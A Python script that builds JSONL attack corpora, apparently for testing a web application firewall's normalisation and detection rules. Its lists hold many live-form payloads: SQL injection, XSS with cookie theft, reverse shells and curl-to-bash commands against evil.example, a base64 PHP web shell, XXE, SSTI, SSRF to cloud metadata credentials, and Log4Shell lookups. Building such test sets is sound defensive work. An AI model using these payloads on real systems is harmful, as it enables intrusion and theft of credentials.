#!/usr/bin/env python3
"""Generates corpus/attacks/<category>.jsonl from hand-written base payloads.

Each base payload is emitted in a few placements (query, path, header, cookie, json,
form, xml, multipart) and encodings (as is, percent-encoded once more, %u, HTML entities,
case changes), so the corpus tests normalisation and extraction, not just the rules.
Deterministic: re-running gives the same files.
"""
import json, os, random, urllib.parse

random.seed(7)
HERE = os.path.dirname(os.path.abspath(__file__))

def pct(s, safe=""):
    return urllib.parse.quote(s, safe=safe)

def enc_variants(p, kinds):
    out = []
    for k in kinds:
        if k == "raw":
            out.append(("raw", p))
        elif k == "url":
            out.append(("url", pct(p, safe="")))
        elif k == "double":
            out.append(("double", pct(pct(p, safe=""), safe="")))
        elif k == "unicode":
            out.append(("unicode", "".join("%%u%04x" % ord(c) if c in "<>'\"/.;()" else c for c in p)))
        elif k == "html":
            out.append(("html", "".join("&#%d;" % ord(c) if c in "<>'\"()" else c for c in p)))
        elif k == "case":
            out.append(("case", "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(p))))
    return out

PLACEMENTS = ["query", "path", "header", "cookie", "json", "form", "xml", "multipart"]

def emit(cat, bases, kinds_cycle, placements=PLACEMENTS, extra=()):
    rows = []
    for i, p in enumerate(bases):
        kinds = kinds_cycle[i % len(kinds_cycle)]
        for j, (enc, payload) in enumerate(enc_variants(p, kinds)):
            pl = placements[(i * 3 + j) % len(placements)]
            if pl == "path" and ("/" in payload and enc == "raw"):
                pl = "query"
            rows.append({"placement": pl, "encoding": enc, "payload": payload})
    rows.extend(extra)
    with open(os.path.join(HERE, "attacks", cat + ".jsonl"), "w") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    return len(rows)

K2 = [["raw", "url"], ["raw", "case"], ["raw"], ["url", "double"], ["raw", "unicode"]]

sqli = [
    "' OR '1'='1", "1 OR 1=1", "admin'--", "' OR 1=1 LIMIT 1-- -", "1' AND 1=2 UNION SELECT username, password FROM users--",
    "-5 UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables", "1; DROP TABLE accounts--",
    "1' AND SLEEP(5)#", "1) WAITFOR DELAY '0:0:10'--", "'; EXEC xp_cmdshell('whoami');--",
    "1 AND (SELECT COUNT(*) FROM sysobjects)>0", "' UNION SELECT @@version,NULL--", "\" OR \"\"=\"",
    "1' ORDER BY 7--", "x' AND extractvalue(1,concat(0x7e,(SELECT user())))-- ",
    "1 AND updatexml(1,concat(0x3a,database()),1)", "' OR 'x'='x' /*", "1'/**/UNION/**/SELECT/**/1,2,3--",
    "1 UN/**/ION SEL/**/ECT 1", "id=1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
    "') OR ('a'='a", "1' AND pg_sleep(10)--", "'; SELECT load_file('/etc/passwd')--",
    "1 INTO OUTFILE '/var/www/html/x.php'", "' HAVING 1=1--", "1' GROUP BY columnnames HAVING 1=1 --",
    "' or true--", "1;SELECT benchmark(5000000,md5(1))", "admin\" or 1=1#", "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--",
    "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- ", "%' AND 1=1 AND '%'='",
    "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2", "' || (SELECT version()) || '",
    "'; shutdown--", "1' AND '1'='1", "99999' UNION SELECT 1,group_concat(table_name) FROM information_schema.tables WHERE table_schema=database()-- -",
]
xss = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "<svg/onload=alert(1)>",
    "\"><script>alert(String.fromCharCode(88,83,83))</script>", "javascript:alert(1)", "<body onload=alert('x')>",
    "<iframe src=\"javascript:alert(1)\"></iframe>", "'><img src=1 onerror=prompt(1)>", "<a href=\"javascript:void(0)\" onclick=\"alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=\"alert(1)\">", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<ScRiPt>confirm`1`</ScRiPt>", "\" onmouseover=\"alert(1)",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=javascript:alert(1)>", "<marquee onstart=alert(1)>", "<div style=\"background:url(javascript:alert(1))\">",
    "jav&#x09;ascript:alert(1)", "<isindex type=image src=1 onerror=alert(1)>", "<form><button formaction=javascript:alert(1)>x",
    "<base href=\"javascript:alert(1)//\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">", "</title><script>alert(1)</script>", "<svg><script>alert&#40;1&#41;</script>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">", "<body onpageshow=alert(1)>", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "\";alert(document.domain);//", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<svg onload=\"window.location='http://evil.example/?c='+document.cookie\">",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
]
cmdi = [
    "; cat /etc/passwd", "| whoami", "&& id", "`id`", "$(whoami)", "127.0.0.1; ls -la /", "x || uname -a",
    "; wget http://evil.example/x.sh -O /tmp/x.sh; sh /tmp/x.sh", "| nc -e /bin/sh 10.0.0.1 4444", "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
    "& ping -n 10 127.0.0.1 &", "; sleep 10", "|| ping -c 10 127.0.0.1", "; c'a't /e't'c/pa's's'wd", "; cat$IFS/etc/passwd",
    "; cat${IFS}/etc/shadow", "a;/bin/cat /etc/hosts", "& type C:\\Windows\\win.ini", "| dir C:\\", "& net user",
    "; powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')\"", "| cmd.exe /c whoami",
    "$(curl http://evil.example/$(whoami))", "; python -c 'import os;os.system(\"id\")'", "; perl -e 'print 1'",
    "; echo PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg== | base64 -d > /var/www/s.php", "\n/usr/bin/id\n", "%0aid",
    "; rm -rf /tmp/*", "| certutil -urlcache -split -f http://evil.example/a.exe a.exe", "; curl -s http://evil.example/p | bash",
    "`sleep 5`", "; /bin/bash -c 'id'", "&& ifconfig", "| ipconfig /all", "; nslookup evil.example", "a|tasklist",
    "; chmod +x /tmp/x", "$(cat /etc/passwd)", "; find / -name *.conf",
]
traversal = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/passwd", "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow", "..%c0%af..%c0%af..%c0%afetc/passwd", "..%252f..%252f..%252fetc/passwd",
    "/etc/passwd", "/proc/self/environ", "C:\\boot.ini", "c:/windows/system32/drivers/etc/hosts", "file:///etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php", "php://input", "../../../../var/log/apache2/access.log",
    "....\\\\....\\\\windows\\\\win.ini", "/var/www/../../etc/passwd", "..%u2216..%u2216etc/passwd", "%252e%252e%252fetc%252fpasswd",
    "../../../../../../proc/self/cmdline", "../../../../home/ubuntu/.ssh/id_rsa", "..;/..;/WEB-INF/web.xml", "../../WEB-INF/web.xml",
    "zip://uploads/x.zip#shell.php", "phar://uploads/avatar.jpg/x", "/..%2f..%2f..%2fetc/passwd", "../../../../root/.bash_history",
    "..././..././..././etc/passwd", "file:///c:/windows/win.ini", "../../.env", "../../../config/database.yml",
    "%2e%2e/%2e%2e/%2e%2e/etc/group", "..\\..\\..\\..\\inetpub\\wwwroot\\web.config", "/etc/shadow%00.jpg",
    "expect://id", "glob:///var/www/*", "../../../../../../../../../../etc/hosts",
]
ldap = [
    "*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)", "admin*)((|userPassword=*)", "*)(cn=*", "x)(|(cn=*))",
    "*))%00", "admin)(|(password=*))", "*)(&(objectClass=user)(sAMAccountName=*)", ")(cn=*))(|(cn=*", "*(|(mail=*))",
    "jdoe)(|(memberOf=cn=admins,dc=corp,dc=com))", "*)(uid=*)(|(uid=*", "admin))(|(uid=*", "*)(objectclass=*))(&(objectclass=void",
    "*)(!(cn=nobody))", "x*)(|(description=*", "admin)(!(&(1=0", "*)(userPassword=*)", "(|(uid=*)(cn=*))",
    "*)(sn=*))(|(sn=*", ")(|(objectCategory=person)", "*)(&(uid=admin)", "*)(mail=*@*))(|(mail=*",
    "foo)(|(givenName=*)", "*)(department=*))(|(a=*",
]
nosql_vals = [
    "{\"$gt\": \"\"}", "{\"$ne\": null}", "{\"$regex\": \".*\"}", "{\"$where\": \"sleep(5000)\"}", "' || '1'=='1",
    "'; return true; var x='", "1; return true", "this.password.match(/.*/)", "{\"$nin\": [\"x\"]}", "\" || this.role == \"admin",
    "'; sleep(5000); '", "true, $where: '1 == 1'", "{\"$or\": [{}, {\"a\": \"a\"}]}", "db.users.find()", "1 || 1==1",
    "{\"username\": {\"$exists\": true}}", "{\"$expr\": {\"$gt\": [\"$balance\", 0]}}", "a' && this.password.length > 0 && 'a'=='a",
]
nosql_extra = []
for key in ["user[$ne]=x", "password[$ne]=", "username[$gt]=", "pin[$regex]=^1", "email[$exists]=true", "id[$in][]=1",
            "login[$nin][]=admin", "q[$where]=1", "price[$lt]=0", "role[$eq]=admin", "token[$ne]=1", "age[$gte]=0"]:
    nosql_extra.append({"placement": "query_raw", "encoding": "raw", "payload": key})
    nosql_extra.append({"placement": "form_raw", "encoding": "raw", "payload": key})
for doc in ['{"username":"admin","password":{"$ne":null}}', '{"user":{"$gt":""},"pass":{"$gt":""}}',
            '{"email":{"$regex":"^a"},"password":{"$ne":"x"}}', '{"$where":"this.credits == this.debits"}',
            '{"filter":{"$or":[{"role":"admin"},{"role":{"$exists":true}}]}}', '{"name":{"$in":["admin","root"]}}',
            '{"id":{"$nin":[]}}', '{"q":{"$expr":{"$eq":[1,1]}}}', '{"user":"a","pin":{"$lt":10000}}',
            '{"items":[{"sku":{"$ne":0}}]}', '{"search":{"$text":{"$search":"x"}},"owner":{"$ne":"me"}}',
            '{"login":{"$regex":".*","$options":"i"}}']:
    nosql_extra.append({"placement": "json_raw", "encoding": "raw", "payload": doc})
xml_raw = [
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><data>1</data>',
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
    '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/evil.dtd"><r/>',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=index.php">]><x>&x;</x>',
    '<!DOCTYPE test [ <!ENTITY % init SYSTEM "data://text/plain;base64,ZmlsZTovLy9ldGMvcGFzc3dk"> %init; ]><foo/>',
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE order [<!ELEMENT order ANY><!ENTITY e SYSTEM "expect://id">]><order>&e;</order>',
    '<?xml version="1.0"?><!DOCTYPE a PUBLIC "-//A//B" "http://169.254.169.254/latest/meta-data/"><a/>',
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><r/>',
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:value-of select="system-property(\'xsl:vendor\')"/></xsl:stylesheet>',
    '<?xml version="1.0"?><!DOCTYPE foo [<!ATTLIST foo a CDATA "x">]><foo/>',
    '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]><svg>&xxe;</svg>',
    '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY % a SYSTEM "ftp://evil.example/a">%a;]><q/>',
]
xml_vals = [
    "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", "<!DOCTYPE foo [<!ENTITY x \"y\">]>", "]]><script>alert(1)</script>",
    "</name><role>admin</role><name>", "<![CDATA[<script>alert(1)</script>]]>", "<xi:include href=\"file:///etc/hosts\" parse=\"text\"/>",
    "<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>", "<!DOCTYPE x SYSTEM \"file:///dev/random\">",
    "joe</username><isAdmin>true</isAdmin><username>joe", "%xxe; ]>", "<!ENTITY % file SYSTEM \"file:///etc/hostname\">",
    "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><!DOCTYPE foo [ <!ELEMENT foo ANY >]>",
]
xml_extra = [{"placement": "xml_raw", "encoding": "raw", "payload": d} for d in xml_raw]
ssti = [
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{self.__init__.__globals__.__builtins__}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ex(\"id\")}",
    "#set($x='')$x.class.forName('java.lang.Runtime')", "{{lipsum.__globals__.os.popen('id').read()}}", "{% import os %}{{os.system('id')}}",
    "{{cycler.__init__.__globals__.os.popen('ls').read()}}", "${{7*7}}", "@(7*7)", "{{=7*7}}", "*{T(java.lang.System).getenv()}",
    "<%= system('cat /etc/passwd') %>", "{{_self.env.registerUndefinedFilterCallback('exec')}}", "{php}echo `id`;{/php}",
    "{{ [].class.base.subclasses() }}", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}", "{{constructor.constructor('return process')()}}",
    "[[${7*7}]]", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "{{ request|attr('application') }}",
    "{{#with \"s\" as |string|}}{{string.sub.apply 0 codelist}}{{/with}}", "{{ 7 * '7' }}", "#{T(java.lang.Runtime).getRuntime()}",
    "${class.getClassLoader()}", "{{ get_flashed_messages.__globals__ }}", "{system('id')}", "<%= `whoami` %>",
]
ssrf = [
    "http://127.0.0.1/admin", "http://localhost:8080/actuator/env", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/", "http://2130706433/", "http://0x7f000001/", "http://0177.0.0.1/",
    "http://[::1]:22/", "http://[::ffff:127.0.0.1]/", "http://127.1/", "http://0/", "http://10.0.0.5:6379/",
    "http://192.168.1.1/cgi-bin/login", "http://172.16.0.10/internal", "gopher://127.0.0.1:6379/_FLUSHALL", "dict://localhost:11211/stats",
    "http://evil.example@127.0.0.1/", "http://127.0.0.1.nip.io/", "http://localtest.me/", "https://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://[fd00:ec2::254]/latest/meta-data/", "http://0x7f.0.0.1:9200/_cat/indices", "http://017700000001/", "http://[0:0:0:0:0:ffff:7f00:1]/",
    "http://100.100.100.200/latest/meta-data/", "http://169.254.170.2/v2/credentials", "http://kubernetes.default.svc/api/v1/secrets",
    "127.0.0.1", "localhost:2375/containers/json", "http://LOCALHOST/", "http://[::]:80/", "http://0.0.0.0:8000/", "ftp://192.168.0.1/",
    "http://instance-data/latest/", "http://10.1.2.3#@example.com/",
]
crlf = [
    "%0d%0aSet-Cookie:%20session=attacker", "%0d%0aLocation:%20http://evil.example", "foo%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK",
    "%0aSet-Cookie:admin=true", "%0d%0a%0d%0a<script>alert(1)</script>", "x%0D%0AX-Forwarded-For:%20127.0.0.1", "%E5%98%8A%E5%98%8DSet-Cookie:%20a=b",
    "en%0d%0aContent-Type:%20text/html", "%0d%0aRefresh:%200;url=http://evil.example", "/%0d%0aLocation:%20//evil.example",
    "%0d%0aAccess-Control-Allow-Origin:%20*", "%250d%250aSet-Cookie:x=y", "%0d%0aX-XSS-Protection:0", "a%0d%0aTransfer-Encoding:%20chunked",
    "test%0d%0aHTTP/1.1 200 OK%0d%0a", "%0d%0aContent-Disposition:%20attachment;filename=x.html", "x%0AHost:%20evil.example",
    "\r\nSet-Cookie: injected=1", "\nLocation: http://evil.example/", "%u000dSet-Cookie:%20x=1", "%0d%0aX-User-Id:%201",
    "%0d%0aCache-Control:%20public", "%0d%0aGET%20/admin%20HTTP/1.1", "a%0d%0aLink:%20<http://evil.example>;rel=preload",
    "%0d%0aContent-Security-Policy:%20default-src%20*",
]
log4j = [
    "${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example:1099/x}", "${jndi:dns://evil.example/q}", "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/p}", "${${upper:j}ndi:ldap://evil.example/}", "${jndi:ldaps://evil.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/}",
    "${env:AWS_SECRET_ACCESS_KEY}", "${sys:java.version}", "${${::-j}ndi:iiop://evil.example/x}", "${jndi:corba://evil.example/}",
    "${jndi:ldap://${env:USER}.evil.example/a}", "${${lower:jnd}${lower:i}:ldap://x.example/}", "${jndi:http://evil.example/x}",
    "${date:'j'}${date:'n'}di:ldap://x", "${main:0}", "${${k8s:k5:-J}${k8s:k5:-ndi}:ldap://evil.example/}", "${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}",
    "${jndi:nis://evil.example/x}", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
]
rfi = [
    "http://evil.example/shell.txt?", "https://evil.example/c99.php", "http://198.51.100.7/x.php", "ftp://evil.example/pub/shell.txt",
    "http://evil.example/shell.php%00", "\\\\evil.example\\share\\shell.php", "http://evil.example/cmd.txt??", "https://203.0.113.9/payload.txt",
    "http://evil.example/r57.txt?&cmd=id", "//evil.example/backdoor.php", "http://evil.example/inc.txt#", "https://evil.example/webshell.jsp",
    "ftp://198.51.100.2/x.txt", "http://evil.example/x.txt?page=", "http://203.0.113.50:8080/s.sh", "smb://evil.example/share/x.php",
    "include('http://evil.example/x.txt');", "require_once \"https://evil.example/a.php\";", "http://evil.example/evil.gif?",
    "https://raw.example.net/attacker/exploit.php?", "http://evil.example/b374k.php", "<!--#include virtual=\"http://evil.example/x\"-->",
    "ftps://evil.example/wso.php", "http://192.0.2.10/phpshell.txt", "http://evil.example/hack.pl?",
]

counts = {}
counts["sqli"] = emit("sqli", sqli, K2)
counts["xss"] = emit("xss", xss, [["raw", "url"], ["raw", "html"], ["raw"], ["url", "double"], ["raw", "unicode"], ["raw", "case"]])
counts["cmdi"] = emit("cmdi", cmdi, [["raw", "url"], ["raw"], ["double"], ["raw", "url"]])
counts["traversal"] = emit("traversal", traversal, [["raw", "url"], ["raw"], ["double"], ["raw", "unicode"]])
counts["ldap"] = emit("ldap", ldap, [["raw", "url"], ["raw", "case"], ["double", "raw"]])
counts["nosql"] = emit("nosql", nosql_vals, [["raw", "url"], ["raw"]], extra=nosql_extra)
counts["xml"] = emit("xml", xml_vals, [["raw", "url", "double"]], extra=xml_extra)
counts["ssti"] = emit("ssti", ssti, [["raw", "url"], ["raw", "double"]])
counts["ssrf"] = emit("ssrf", ssrf, [["raw", "url"], ["raw", "double"]],
                      placements=["query", "json", "form", "multipart", "xml", "query", "json", "header"])
counts["crlf"] = emit("crlf", crlf, [["raw", "case"], ["raw", "url"]],
                      placements=["query_pre", "path_pre", "header_pre", "cookie_pre", "form_pre", "json", "query_pre"])
counts["log4shell"] = emit("log4shell", log4j, [["raw", "url", "case"], ["raw", "double", "case"]])
counts["rfi"] = emit("rfi", rfi, [["raw", "url"], ["raw", "double"], ["raw", "case"]],
                     placements=["query", "form", "json", "multipart", "cookie", "xml", "query"])
print(counts)
